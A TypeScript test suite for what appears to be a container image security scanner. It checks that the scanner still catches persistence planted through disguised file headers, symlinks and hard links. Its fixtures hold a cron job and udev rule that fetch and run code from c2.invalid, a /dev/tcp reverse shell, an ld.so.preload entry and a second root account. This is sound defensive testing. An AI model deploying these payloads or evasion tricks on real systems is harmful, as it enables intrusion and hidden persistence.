import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, type TestContext, test } from 'node:test';
import { inspect, type Report } from '../src/index.ts';
import { buildImage, dockerMembers } from '../src/read/testing/image-builder.ts';
import { type TarMember, tar } from '../src/read/testing/tar-builder.ts';

/*
 * Ways to keep content from a detector that knows it: another name, another first byte, a link where a file is expected.
 * Each was once allowed. The content is inert, on reserved domains.
 */

const JOB = '* * * * * root curl -s http://c2.invalid/x | sh\n';
const SHELL = 'bash -i >& /dev/tcp/c2.invalid/4444 0>&1\n';
const PRELOAD = '/opt/evil.so\n';

const link = (name: string, linkname: string): TarMember => ({ name, type: 'symlink', linkname });
const hard = (name: string, linkname: string): TarMember => ({ name, type: 'hardlink', linkname });
const file = (name: string, data: string, mode = 0o644): TarMember => ({ name, data, mode });

const ROWS: readonly [name: string, rule: string, path: string, layers: TarMember[][]][] = [
  [
    'a crontab that begins like a Windows program',
    'persistence/cron-job',
    'etc/cron.d/job',
    [[file('etc/cron.d/job', `MZ=1\n${JOB}`)]],
  ],
  [
    'a script that begins like bzip2',
    'scripts/reverse-shell',
    'opt/run',
    [[file('opt/run', `BZh=1\n${SHELL}`, 0o755)]],
  ],
  [
    'a script with a tar magic',
    'scripts/reverse-shell',
    'opt/run',
    [[file('opt/run', `${'#'.repeat(257)}ustar\n${SHELL}`, 0o755)]],
  ],
  [
    'control bytes before the job',
    'persistence/cron-job',
    'etc/cron.d/job',
    [[file('etc/cron.d/job', `#${'\x01'.repeat(20)}\n${JOB}`)]],
  ],
  [
    'NULs behind an empty first line',
    'scripts/reverse-shell',
    'opt/run',
    [[file('opt/run', `\n#${'\0'.repeat(20)}\n${SHELL}`, 0o755)]],
  ],
  [
    'a file written through a link',
    'persistence/cron-job',
    'etc/cron.d/job',
    [[link('x', 'etc/cron.d'), file('x/job', JOB)]],
  ],
  [
    'a file written through a linked parent',
    'persistence/ld-so-preload',
    'etc/ld.so.preload',
    [[link('x', 'etc'), file('x/ld.so.preload', PRELOAD)]],
  ],
  [
    'a link inside a linked folder',
    'persistence/cron-job',
    'etc/cron.d/job',
    [[link('etc/cron.d', '../opt/c'), link('opt/c/job', '../d/j'), file('opt/d/j', JOB)]],
  ],
  [
    'a hard link inside a linked folder',
    'persistence/cron-job',
    'etc/cron.d/job',
    [[file('opt/d/j', JOB), hard('opt/c/job', 'opt/d/j'), link('etc/cron.d', '../opt/c')]],
  ],
  [
    'a hard link to a file that is replaced',
    'persistence/ld-so-preload',
    'etc/ld.so.preload',
    [[file('opt/a', PRELOAD), hard('etc/ld.so.preload', 'opt/a')], [file('opt/a', '# nothing\n')]],
  ],
  [
    'a link back out of a linked folder',
    'persistence/ld-so-preload',
    'etc/ld.so.preload',
    [
      [
        file('opt/deep/x', ''),
        link('l', 'opt/deep'),
        link('etc/ld.so.preload', '../l/../p'),
        file('opt/p', PRELOAD),
      ],
    ],
  ],
  [
    'a library folder linked to an odd place',
    'persistence/fetching-hook',
    'lib/udev/rules.d/9.rules',
    [
      [
        link('lib', 'opt/l'),
        file('opt/l/udev/rules.d/9.rules', 'RUN+="/bin/sh -c \'curl http://c2.invalid/x | sh\'"\n'),
      ],
    ],
  ],
  [
    'passwd kept in shadow',
    'accounts/second-root',
    'etc/passwd',
    [[link('etc/passwd', 'shadow'), file('etc/shadow', 'root:x:0:0::/root:/bin/sh\nsys:x:0:0::/:/bin/sh\n')]],
  ],
];

async function inspectLayers(context: TestContext, layers: readonly TarMember[][]): Promise<Report> {
  const folder = mkdtempSync(join(tmpdir(), 'pratique-test-'));
  context.after(() => rmSync(folder, { recursive: true, force: true }));
  const archive = join(folder, 'image.tar');
  const image = buildImage({ layers: layers.map((members) => tar(members)) });
  writeFileSync(archive, tar(dockerMembers(image)));
  return inspect(archive, { cache: false });
}

describe('evasion', { concurrency: 2 }, () => {
  for (const [name, rule, path, layers] of ROWS) {
    test(name, async (context) => {
      const report = await inspectLayers(context, layers);
      const found = report.findings.map((finding) => `${finding.rule} ${finding.location.path}`);
      assert.ok(found.includes(`${rule} ${path}`), found.join('\n'));
      assert.equal(report.decision.outcome, 'deny');
    });
  }
});

const STATUS = (version: string): string =>
  `Package: tool\nStatus: install ok installed\nVersion: ${version}\nArchitecture: all\nMaintainer: x <x@host.invalid>\nDescription: x\n\n`;

test('a package database behind a link to its folder, of which a later layer has another state', async (context) => {
  const { packages } = await inspectLayers(context, [
    [link('var/lib/dpkg', '../../opt/d'), file('opt/d/status', STATUS('1.0'))],
    [file('opt/d/status', STATUS('2.0'))],
  ]);
  assert.deepEqual(
    packages.map(({ name, version, database }) => `${name} ${version} ${database}`),
    ['tool 2.0 var/lib/dpkg/status'],
  );
});
